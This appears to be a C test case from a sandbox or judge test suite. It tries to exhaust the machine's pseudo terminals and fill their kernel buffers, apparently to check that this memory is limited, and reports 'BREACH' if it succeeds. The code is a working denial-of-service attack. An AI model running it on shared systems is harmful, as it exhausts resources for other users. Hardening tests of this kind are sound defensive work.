/* attack: memory in pseudo terminals, which counts for nobody; and all of the machine's numbers for them
 * expect: AC
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>
int main(void) {
    static char buffer[8192];
    int terminals = 0;
    long bytes = 0;
    for (int m; (m = posix_openpt(O_RDWR | O_NOCTTY)) >= 0; terminals++) {
        struct termios raw;
        unlockpt(m);
        int s = open(ptsname(m), O_RDWR | O_NOCTTY);
        if (s < 0) break;
        tcgetattr(s, &raw), cfmakeraw(&raw), tcsetattr(s, TCSANOW, &raw);
        fcntl(m, F_SETFL, O_NONBLOCK);
        for (ssize_t n; (n = write(m, buffer, sizeof buffer)) > 0;) bytes += n;
    }
    if (terminals) printf("BREACH %d terminals with %ld bytes\n", terminals, bytes);
    puts("held");
}
